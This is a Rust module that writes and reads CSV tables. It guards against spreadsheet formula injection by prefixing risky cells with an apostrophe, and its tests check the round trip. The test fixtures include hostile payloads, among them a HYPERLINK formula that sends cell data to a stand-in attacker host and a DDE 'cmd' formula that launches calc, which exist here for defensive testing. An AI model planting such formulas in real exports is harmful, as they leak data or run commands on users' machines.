//! Tables as CSV: RFC 4180 with CRLF, in UTF-8 with a byte order mark, without which Excel takes
//! the text for another encoding.
//!
//! A spreadsheet runs a cell that begins like a formula, whoever wrote it: a user who is called
//! `=HYPERLINK(…)` would act in the admin's name. Such a cell gets an apostrophe in front, which
//! makes it a text, and [`Table::read`] takes it away again:
//!
//! - A text begins like a formula when its first character, or the first after spaces, control
//!   characters, quotation marks and apostrophes (which spreadsheets drop), is one of `= + - @`, or
//!   of these in full width; or when it begins with a tab or a carriage return.
//! - Where the system separates lists by semicolons, Excel splits the cells of a CSV file at
//!   semicolons, and no longer sees which line break is within quotes. So what follows a semicolon,
//!   a tab or a line break within a cell is treated like a cell.
//! - A text that begins with apostrophes and goes on like a formula gets one more. That is why
//!   reading may take one away from whatever would have got one: every text comes back as it was.

use std::string::FromUtf8Error;

/// What begins a file, so that a spreadsheet takes it for UTF-8.
const BYTE_ORDER_MARK: &str = "\u{feff}";

/// At these, a spreadsheet may take one cell for two.
const SPLITS: [char; 4] = [';', '\t', '\r', '\n'];

/// A table of texts: a heading, and rows of as many cells.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Table {
    /// What the columns are called.
    pub heading: Vec<String>,
    /// The rows.
    pub rows: Vec<Vec<String>>,
}

/// Why a table can't be written or read.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum TableError {
    /// A row has more or fewer cells than the heading.
    #[error("row {row} has {cells} cells, not {columns}")]
    Uneven {
        /// The row, where the heading is row 1.
        row: u64,
        /// How many cells it has.
        cells: usize,
        /// How many columns the heading has.
        columns: usize,
    },
    /// The table has no columns, or the file nothing in it.
    #[error("there are no columns")]
    Empty,
    /// The file is not UTF-8.
    #[error("the file is not UTF-8")]
    Encoding(#[source] FromUtf8Error),
    /// The CSV library has a reason of its own.
    #[error(transparent)]
    Csv(#[from] csv::Error),
}

impl Table {
    /// The table as a file.
    ///
    /// # Errors
    /// [`TableError::Empty`] without columns, [`TableError::Uneven`] for a row of other length.
    pub fn write(&self) -> Result<Vec<u8>, TableError> {
        let columns = self.heading.len();
        if columns == 0 {
            return Err(TableError::Empty);
        }
        let mut writer = csv::WriterBuilder::new()
            .flexible(true)
            .terminator(csv::Terminator::CRLF)
            .from_writer(Vec::from(BYTE_ORDER_MARK));
        for (row, number) in std::iter::once(&self.heading).chain(&self.rows).zip(1..) {
            if row.len() != columns {
                return Err(TableError::Uneven {
                    row: number,
                    cells: row.len(),
                    columns,
                });
            }
            writer.write_record(row.iter().map(|cell| neutralised(cell)))?;
        }
        writer
            .into_inner()
            .map_err(|error| TableError::Csv(error.into_error().into()))
    }

    /// A table from a file that [`Table::write`] made, also after a spreadsheet has saved it. It
    /// may lack the byte order mark.
    ///
    /// # Errors
    /// [`TableError::Encoding`], [`TableError::Empty`], [`TableError::Uneven`].
    pub fn read(file: Vec<u8>) -> Result<Self, TableError> {
        let text = String::from_utf8(file).map_err(TableError::Encoding)?;
        // The library does not read the mark as part of the first cell.
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(text.as_bytes());
        let mut rows = Vec::new();
        for record in reader.records() {
            let row: Vec<String> = record?.iter().map(restored).collect();
            rows.push(row);
        }
        let mut rows = rows.into_iter();
        let heading = rows.next().ok_or(TableError::Empty)?;
        let rows: Vec<Vec<String>> = rows.collect();
        for (row, number) in rows.iter().zip(2..) {
            if row.len() != heading.len() {
                return Err(TableError::Uneven {
                    row: number,
                    cells: row.len(),
                    columns: heading.len(),
                });
            }
        }
        Ok(Self { heading, rows })
    }
}

/// The cell as it is written.
fn neutralised(cell: &str) -> String {
    let mut written = String::with_capacity(cell.len() + 1);
    if needs_apostrophe(cell) {
        written.push('\'');
    }
    for (part, number) in cell.split_inclusive(SPLITS).zip(0..) {
        if number > 0 && begins_like_a_formula(part) {
            written.push('\'');
        }
        written.push_str(part);
    }
    written
}

/// The cell that was written as this.
fn restored(cell: &str) -> String {
    let whole = match cell.strip_prefix('\'') {
        Some(rest) if needs_apostrophe(rest) => rest,
        _ => cell,
    };
    let mut read = String::with_capacity(whole.len());
    for (part, number) in whole.split_inclusive(SPLITS).zip(0..) {
        read.push_str(match number {
            0 => part,
            _ => match part.strip_prefix('\'') {
                Some(rest) if begins_like_a_formula(rest) => rest,
                _ => part,
            },
        });
    }
    read
}

fn needs_apostrophe(cell: &str) -> bool {
    // An apostrophe before a tab must be told from one that was put there.
    begins_like_a_formula(cell) || cell.trim_start_matches('\'').starts_with(['\t', '\r'])
}

fn begins_like_a_formula(text: &str) -> bool {
    // A spreadsheet may drop these, and what comes after them is then the first.
    let first = text.trim_start_matches(|letter: char| {
        letter.is_whitespace()
            || letter.is_control()
            || matches!(
                letter,
                '\'' | '"' | '‘' | '’' | '“' | '”' | '＇' | '＂' | '\u{200b}'
                    ..='\u{200f}' | '\u{2060}' | '\u{feff}'
            )
    });
    first.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]
mod tests {
    use proptest::{collection::vec, prelude::*};

    use super::*;

    fn table(rows: &[&[&str]]) -> Table {
        let mut rows = rows
            .iter()
            .map(|row| row.iter().map(|cell| (*cell).to_owned()).collect());
        Table {
            heading: rows.next().unwrap(),
            rows: rows.collect(),
        }
    }

    fn written(rows: &[&[&str]]) -> String {
        String::from_utf8(table(rows).write().unwrap()).unwrap()
    }

    #[test]
    fn a_file_has_its_mark_its_line_ends_and_its_quotes() {
        let file = written(&[
            &["Login", "What failed"],
            &["ann", "no, \"really\" not"],
            &["", "two\r\nlines"],
        ]);
        assert_eq!(
            file,
            "\u{feff}Login,What failed\r\nann,\"no, \"\"really\"\" not\"\r\n,\"two\r\nlines\"\r\n"
        );
    }

    #[test]
    fn what_begins_like_a_formula_becomes_a_text() {
        for formula in [
            "=HYPERLINK(\"http://evil.example?\"&A1,\"Ann\")",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\rtext",
            "\ttext",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(A1)",
            "  =1",
            "\u{a0}=1",
            "\u{feff}=1",
            "\u{200b}=1",
            "\n=1",
            "\"=1\"",
            "“=1",
            "'=1",
            "' '=1",
        ] {
            let written = neutralised(formula);
            let first: String = formula.chars().take(1).collect();
            assert!(written.starts_with(&format!("'{first}")), "{written:?}");
            assert_eq!(restored(&written), formula);
        }
    }

    #[test]
    fn where_semicolons_separate_cells_none_begins_like_a_formula_either() {
        let name = "Ann;=HYPERLINK(\"http://evil.example\",\"Ann\")";
        assert_eq!(neutralised(name), name.replace(";=", ";'="));
        assert_eq!(neutralised("two\r\n=1+1"), "two\r\n'=1+1");
        assert_eq!(neutralised("a\t@b;c; -d"), "a\t'@b;c;' -d");
        assert_eq!(neutralised("=a;=b"), "'=a;'=b");
    }

    #[test]
    fn ordinary_texts_stay_as_they_are() {
        for text in [
            "",
            "ann.lee@example.com",
            "O'Neil",
            "'s-Hertogenbosch",
            "\"Bob\"",
            "Anne-Marie",
            "a = b",
            "x;y",
            "Dear Ann,\r\n\r\nall is well",
            " Ann",
            "李雷",
            "arn:aws:connect:eu-west-2:111122223333:instance/a",
        ] {
            assert_eq!(neutralised(text), text);
            assert_eq!(restored(text), text);
        }
    }

    #[test]
    fn a_file_that_a_spreadsheet_saved_is_read() {
        let file = "Login,Name\nann,'=1\nbob,\"'@b\"\n";
        let read = Table::read(file.into()).unwrap();
        assert_eq!(
            read,
            table(&[&["Login", "Name"], &["ann", "=1"], &["bob", "@b"]])
        );
    }

    #[test]
    fn what_is_no_table_is_named() {
        let uneven = table(&[&["a", "b"], &["1", "2"], &["3"]]);
        let error = uneven.write().unwrap_err();
        assert_eq!(error.to_string(), "row 3 has 1 cells, not 2");
        let error = Table::read(b"a,b\r\n1,2\r\n3\r\n".to_vec()).unwrap_err();
        assert_eq!(error.to_string(), "row 3 has 1 cells, not 2");
        let error = Table::default().write().unwrap_err();
        assert!(matches!(error, TableError::Empty), "{error}");
        let error = Table::read(Vec::new()).unwrap_err();
        assert!(matches!(error, TableError::Empty), "{error}");
        let error = Table::read(b"a\r\n\xff\r\n".to_vec()).unwrap_err();
        assert!(matches!(error, TableError::Encoding(_)), "{error}");
    }

    /// Any text, and many that are made of what matters here.
    fn cell() -> impl Strategy<Value = String> {
        let matters = prop::sample::select(vec![
            '=', '+', '-', '@', '＝', '＠', '\t', '\r', '\n', ' ', '\'', '"', '’', ';', ',', 'a',
            '\u{feff}', '\u{200b}', '\0', '\u{a0}',
        ]);
        prop_oneof![
            any::<String>(),
            vec(matters, 0..8).prop_map(|letters| letters.into_iter().collect()),
        ]
    }

    proptest! {
        #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn every_table_comes_back_as_it_was(
            (heading, rows) in (1_usize..5).prop_flat_map(|columns| {
                (vec(cell(), columns), vec(vec(cell(), columns), 0..5))
            })
        ) {
            let table = Table { heading, rows };
            prop_assert_eq!(Table::read(table.write().unwrap()).unwrap(), table);
        }

        #[test]
        fn no_cell_and_no_part_of_one_begins_like_a_formula(text in cell()) {
            let written = neutralised(&text);
            for part in written.split(SPLITS) {
                let first = part.trim_start().chars().next();
                prop_assert!(
                    !first.is_some_and(|first| "=+-@＝＋－＠".contains(first)),
                    "{:?}",
                    written
                );
            }
            prop_assert!(!written.starts_with(['\t', '\r']));
        }
    }
}
